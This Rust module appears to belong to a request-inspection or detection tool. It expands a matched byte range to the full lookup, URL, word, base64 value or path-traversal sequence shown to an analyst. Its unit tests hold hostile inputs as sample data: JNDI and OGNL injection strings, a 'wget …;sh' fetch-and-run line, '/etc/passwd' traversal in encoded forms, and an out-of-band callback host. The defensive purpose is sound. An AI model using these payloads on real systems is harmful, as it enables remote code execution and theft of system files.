//! The whole of what evidence names: a look-up with its last brace, an address with its end, a word
//! with its last letter.
//!
//! In: a text, and the range of it that meets a test. Out: the range that a person is shown. Tests
//! look for as little as tells one thing from others, and half a word in a mark says that the rest
//! of it does not matter. Decides nothing: what applies has been decided. Looks at some hundred
//! bytes on either side, whatever they are.

use std::ops::Range;

use memchr::memmem;

use crate::slice::{self, contains_one, first, last};

/// Longest word that is completed; a longer run of letters and digits is data.
const MAX_WORD_BYTES: usize = 64;
/// Shortest run of one byte that is completed, and the most of it that is marked behind what was
/// found.
const MIN_RUN_BYTES: usize = 16;
const MAX_RUN_BYTES: usize = 4096;
/// Shortest text that may be base64, and have padding.
const MIN_BASE64_BYTES: usize = 12;
/// Ways to write that the way goes up, and parts of them: plain, encoded, encoded twice.
const STEPS: [&[u8]; 10] = [
    b"../", b"..\\", b"%2e", b"%2f", b"%5c", b"%252e", b"%252f", b"%255c", b"%%32", b"%c0%af",
];
const PARTS_OF_STEPS: [&[u8]; 5] = [b".", b"/", b"\\", b"%65", b"%66"];
/// Bytes on either side of a match in which a look-up begins and ends; obfuscated ones have some
/// hundred.
const MAX_LOOKUP_BYTES: usize = 1024;
/// Bytes before a match in which an address begins, and in which it ends; a name in DNS has 255.
const MAX_ADDRESS_BYTES: usize = 300;
/// Longest name of a scheme.
const MAX_SCHEME_BYTES: usize = 16;
/// What is between scheme and host, also where percent-encoding hides it.
const AFTER_SCHEME: [&[u8]; 2] = [b"://", b"%3a%2f%2f"];
/// The longer one of them.
const MAX_SIGN_BYTES: usize = 9;

/// Returns the whole of what a range names.
///
/// The text is in lower case. What is empty stays so.
pub(crate) fn whole(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    if range.is_empty() || range.end > bytes.len() {
        return range;
    }
    let range = run(bytes, range);
    let range = steps(bytes, range);
    let range = word(bytes, range);
    let range = name(bytes, range);
    let range = address(bytes, range);
    lookup(bytes, range)
}

/// Completes the words of which the range has a part, and escapes such as `%2f`.
fn word(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let begins_in_word = bytes[range.start].is_ascii_alphanumeric();
    let ends_in_word = bytes[range.end - 1].is_ascii_alphanumeric();
    let mut before = 0;
    let mut after = 0;
    // One byte more than a word has tells that it is none.
    if begins_in_word {
        let near = last(&bytes[..range.start], MAX_WORD_BYTES + 1);
        before = slice::run_at_end(near, u8::is_ascii_alphanumeric);
    }
    if ends_in_word {
        let near = first(&bytes[range.end..], MAX_WORD_BYTES + 1);
        after = slice::run(near, u8::is_ascii_alphanumeric);
    }
    if before > MAX_WORD_BYTES || after > MAX_WORD_BYTES {
        return range;
    }
    let mut start = range.start;
    if begins_in_word {
        start = escape_before(bytes, start, before).unwrap_or(start - before);
    }
    start..range.end + after
}

/// Completes what is written as several words: `curl/7` of `curl/7.54.0`, `.sql` of `dump.sql`,
/// `name` of `name@a.example`, base64 with its padding, and a parenthesis.
fn name(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let Range { mut start, mut end } = range;
    if bytes.get(start) == Some(&b'.') {
        start -= slice::run_at_end(last(&bytes[..start], MAX_WORD_BYTES), is_of_file);
    }
    let is_number = bytes[end - 1].is_ascii_digit();
    match &bytes[end..] {
        rest @ [b'.', b'0'..=b'9', ..] if is_number => {
            end += slice::run(first(rest, MAX_WORD_BYTES), is_of_version);
        }
        [b'@', host @ ..] if host.first().is_some_and(u8::is_ascii_alphanumeric) => {
            end += 1 + slice::run(first(host, MAX_WORD_BYTES), is_of_file);
        }
        rest @ [b'=', ..] if end - start >= MIN_BASE64_BYTES => end += padding(rest),
        _ => {}
    }
    if bytes.get(end) == Some(&b')') && is_open(&bytes[start..end]) {
        end += 1;
    }
    start..end
}

/// Part of the name of a file or of a host.
fn is_of_file(byte: &u8) -> bool {
    byte.is_ascii_alphanumeric() || b"_-.".contains(byte)
}

fn is_of_version(byte: &u8) -> bool {
    byte.is_ascii_digit() || *byte == b'.'
}

/// How many `=` are here that end base64; none where something goes on behind them.
fn padding(rest: &[u8]) -> usize {
    let length = if rest.starts_with(b"==") { 2 } else { 1 };
    match rest.get(length) {
        Some(byte) if byte.is_ascii_graphic() => 0,
        _ => length,
    }
}

/// More parentheses are opened than closed.
fn is_open(bytes: &[u8]) -> bool {
    memchr::memchr_iter(b'(', bytes).count() > memchr::memchr_iter(b')', bytes).count()
}

/// Completes a run of one byte, such as overflows a buffer.
fn run(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let filler = bytes[range.end - 1];
    let is_filler = |byte: &u8| *byte == filler;
    if slice::run_at_end(&bytes[range.clone()], is_filler) < MIN_RUN_BYTES {
        return range;
    }
    let after = first(&bytes[range.end..], MAX_RUN_BYTES);
    range.start..range.end + slice::run(after, is_filler)
}

/// Completes a way up through folders, step by step.
fn steps(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let within = &bytes[range.clone()];
    let has_sign = memchr::memchr2(b'.', b'%', within).is_some();
    if !has_sign || !contains_one(within, &STEPS) {
        return range;
    }
    let mut end = range.end;
    while end - range.end < MAX_LOOKUP_BYTES
        && let Some(step) = step_at_start(&bytes[end..])
    {
        end += step.len();
    }
    let mut start = range.start;
    while range.start - start < MAX_LOOKUP_BYTES
        && let Some(step) = step_at_end(&bytes[..start])
    {
        start -= step.len();
    }
    start..end
}

/// The step, or the part of one, that the bytes begin with.
fn step_at_start(bytes: &[u8]) -> Option<&'static [u8]> {
    let mut parts = STEPS.iter().chain(&PARTS_OF_STEPS);
    parts.find(|part| bytes.starts_with(part)).copied()
}

/// The step, or the part of one, that the bytes end with.
fn step_at_end(bytes: &[u8]) -> Option<&'static [u8]> {
    let mut parts = STEPS.iter().chain(&PARTS_OF_STEPS);
    parts.find(|part| bytes.ends_with(part)).copied()
}

/// Where the word begins that so many letters before `start` seem to belong to, if the first of
/// them are of `%2f`.
fn escape_before(bytes: &[u8], start: usize, letters: usize) -> Option<usize> {
    let sign = start.checked_sub(letters + 1)?;
    let digits = bytes.get(sign + 1..sign + 3)?;
    let is_escape = bytes[sign] == b'%' && digits.iter().all(u8::is_ascii_hexdigit);
    if !is_escape {
        return None;
    }
    match letters {
        // The range begins within the escape.
        0 | 1 => Some(sign),
        _ => Some(sign + 3),
    }
}

/// Completes an address of which the range has a part of the scheme or of the host.
fn address(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let Some(sign) = sign_of_address(bytes, &range) else {
        return range;
    };
    let before = last(&bytes[..sign.start], MAX_SCHEME_BYTES);
    let scheme = slice::run_at_end(before, u8::is_ascii_alphanumeric);
    let start = sign.start - scheme;
    let limit = sign.end.max(range.end).saturating_add(MAX_ADDRESS_BYTES);
    let rest = &bytes[sign.end..bytes.len().min(limit)];
    let end_of_host = sign.end + length_until(rest, ends_host);
    let end = sign.end + length_until(rest, ends_address);
    let has_a_part = scheme > 0 && start < range.end && range.start < end_of_host;
    if has_a_part && range.end <= end {
        range.start.min(start)..end
    } else {
        range
    }
}

/// The last sign between a scheme and a host that is near a range.
fn sign_of_address(bytes: &[u8], range: &Range<usize>) -> Option<Range<usize>> {
    let from = range.start.saturating_sub(MAX_ADDRESS_BYTES);
    let to = bytes.len().min(range.end.saturating_add(MAX_SIGN_BYTES));
    let mut found: Option<Range<usize>> = None;
    for sign in AFTER_SCHEME {
        if let Some(at) = memmem::rfind(&bytes[from..to], sign) {
            let start = from + at;
            if found.as_ref().is_none_or(|found| found.start < start) {
                found = Some(start..start + sign.len());
            }
        }
    }
    found
}

/// How many bytes there are before the first place that is an end.
fn length_until(rest: &[u8], is_end: fn(&[u8]) -> bool) -> usize {
    for at in 0..rest.len() {
        if is_end(&rest[at..]) {
            return at;
        }
    }
    rest.len()
}

/// What no address has in it, or what is around one.
fn ends_address(rest: &[u8]) -> bool {
    match rest {
        [byte, ..] => !byte.is_ascii_graphic() || br#""'`<>(){}[]|\^;,&$"#.contains(byte),
        [] => true,
    }
}

fn ends_host(rest: &[u8]) -> bool {
    ends_address(rest) || rest.starts_with(b"%2f") || matches!(rest, [b'/' | b'?' | b'#', ..])
}

/// Completes `${…}`, `%{…}` or `#{…}` of which the range has a part, and what is nested in it or
/// around it.
fn lookup(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let around = outermost(bytes, range.start);
    if let Some(end) = end_of_lookup(bytes, around, range.end) {
        return around..end;
    }
    // What was opened before and has no end is none.
    if let Some(end) = end_of_lookup(bytes, range.start, range.end) {
        return range.start..end;
    }
    range.start..end_of_open(bytes, range.end)
}

/// Where all look-ups are closed that are open between here and `end`, there or behind it; `None`
/// if they stay open.
fn end_of_lookup(bytes: &[u8], start: usize, end: usize) -> Option<usize> {
    let limit = bytes.len().min(end.saturating_add(MAX_LOOKUP_BYTES));
    let mut depth = 0_usize;
    for at in start..limit {
        if depth == 0 && at >= end {
            return Some(at);
        }
        match bytes[at] {
            b'{' if depth > 0 || is_opening(bytes, at) => depth += 1,
            b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    (depth == 0).then_some(limit)
}

/// Where the outermost look-up begins that is open here; here, if none is.
fn outermost(bytes: &[u8], here: usize) -> usize {
    let (mut start, mut closed) = (here, 0_usize);
    let limit = here.saturating_sub(MAX_LOOKUP_BYTES);
    for at in (limit..here).rev() {
        match bytes[at] {
            b'}' => closed += 1,
            b'{' if closed > 0 => closed -= 1,
            b'{' if is_opening(bytes, at) => start = at - 1,
            // The brace of JSON or of a program.
            b'{' | b'\n' => break,
            _ => {}
        }
    }
    start
}

fn is_opening(bytes: &[u8], brace: usize) -> bool {
    matches!(bytes[..brace], [.., b'$' | b'%' | b'#'])
}

/// As far as a look-up without an end seems to go.
fn end_of_open(bytes: &[u8], from: usize) -> usize {
    let limit = bytes.len().min(from.saturating_add(MAX_ADDRESS_BYTES));
    let rest = bytes.get(from..limit).unwrap_or_default();
    from + slice::run(rest, |byte| {
        byte.is_ascii_graphic() && !b"\"'<>&".contains(byte)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What is marked of a text when this part of it meets a test.
    fn marked<'a>(text: &'a str, part: &str) -> &'a str {
        let start = text.find(part).expect("it is there");
        &text[whole(text.as_bytes(), start..start + part.len())]
    }

    #[test]
    fn a_look_up_ends_at_its_brace() {
        for (text, part, expected) in [
            ("x ${jndi:ldap://x/a} y", "${jndi:", "${jndi:ldap://x/a}"),
            ("x ${jndi:ldap://x/a} y", "jndi:ldap:", "${jndi:ldap://x/a}"),
            (
                "${${lower:j}ndi:ldap://x/${env:a}}}",
                "${lower:",
                "${${lower:j}ndi:ldap://x/${env:a}}",
            ),
            (
                "a=${${::-j}${::-n}di:rmi://x/a};b",
                "${::-n}",
                "${${::-j}${::-n}di:rmi://x/a}",
            ),
            (
                "{\"a\":\"${jndi:dns://x}\"}",
                "jndi:dns:",
                "${jndi:dns://x}",
            ),
            ("%{(#a=@java@b).{c}} d", "@java@", "%{(#a=@java@b).{c}}"),
            // One that is before it, and one that is in it.
            ("${a} word {b}", "word", "word"),
            ("cat${ifs}/etc/passwd", "${ifs}", "${ifs}"),
            ("${never closed, word and word", "word", "word"),
            // Without an end, and with one out of reach.
            ("${jndi:ldap://x/a and more", "${jndi:", "${jndi:ldap://x/a"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
        let long = format!("${{jndi:{}}}", "a".repeat(10_000));
        assert!(marked(&long, "${jndi:").len() <= 7 + MAX_LOOKUP_BYTES);
    }

    #[test]
    fn an_address_is_marked_to_its_end() {
        for (text, part, expected) in [
            (
                "\"http://a.example/b?c\" d",
                "http://",
                "http://a.example/b?c",
            ),
            (
                "wget http://a.example/b;sh",
                "wget http",
                "wget http://a.example/b",
            ),
            (
                "u=https://x1.oast.fun/p&v",
                "x1.oast.fun",
                "https://x1.oast.fun/p",
            ),
            (
                "u=http%3a%2f%2fx1.oast.fun%2fp&v",
                "x1.oast.fun",
                "http%3a%2f%2fx1.oast.fun%2fp",
            ),
            (
                "(+https://about.a.example/)",
                "about.a",
                "https://about.a.example/",
            ),
            ("x1.oast.fun", "x1.oast.fun", "x1.oast.fun"),
            // Its path is not the address.
            ("http://a.example/../etc/passwd?x", "../", "/../"),
            ("http://a.example/ and word", "word", "word"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
        let long = format!("http://{}", "a/".repeat(10_000));
        assert!(marked(&long, "http").len() <= 7 + MAX_ADDRESS_BYTES);
    }

    #[test]
    fn a_word_is_marked_to_its_end() {
        for (text, part, expected) in [
            ("/wp-login.php", "wp-log", "wp-login"),
            ("mozilla/5.0 zgrabber/0.x", "zgrab", "zgrabber"),
            ("/administrator/", "/admin", "/administrator"),
            ("/a%2fpasswd", "passwd", "passwd"),
            ("/a%2fpasswd", "fpasswd", "%2fpasswd"),
            ("/cgi-bin/luci", "/cgi-bin/", "/cgi-bin/"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
        let long = "ab".repeat(50);
        assert_eq!(marked(&long, "aba"), "aba");
    }

    #[test]
    fn a_name_of_several_words_is_marked_to_its_end() {
        for (text, part, expected) in [
            ("curl/7.54.0 x", "curl/7", "curl/7.54.0"),
            ("/a/dump-1.sql", ".sql", "dump-1.sql"),
            ("(name@mail.a.example)", "name", "name@mail.a.example"),
            (
                "basic cm9vddphzg1pbg==\r\n",
                "basic cm9vddphzg1pbg",
                "basic cm9vddphzg1pbg==",
            ),
            ("4.0 (hydra)", "(hydra", "(hydra)"),
            ("a=1&b=2", "a=1", "a=1"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
    }

    #[test]
    fn runs_and_ways_up_are_marked_to_their_ends() {
        let long = format!("x={}&y", "A".repeat(1000));
        assert_eq!(marked(&long, &"A".repeat(100)).len(), 1000);
        for (text, part, expected) in [
            ("f=../../../etc/passwd", "../../", "../../../"),
            ("f=..%252f..%252f&x", "%252f", "..%252f..%252f"),
            ("/b/%%32%65%%32%65/c", "%%32", "/%%32%65%%32%65/"),
            ("/a/../b", "/b", "/b"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
    }

    #[test]
    fn no_bytes_panic() {
        let bytes: Vec<u8> = b"${%{http://%2f%3a%2f%2fa}}\n\"".repeat(3);
        for start in 0..bytes.len() {
            for end in start..=bytes.len() {
                let range = whole(&bytes, start..end);
                assert!(range.start <= start && range.end >= end && range.end <= bytes.len());
            }
        }
        assert_eq!(whole(b"", 0..0), 0..0);
        assert_eq!(whole(b"a", 0..2), 0..2);
    }
}
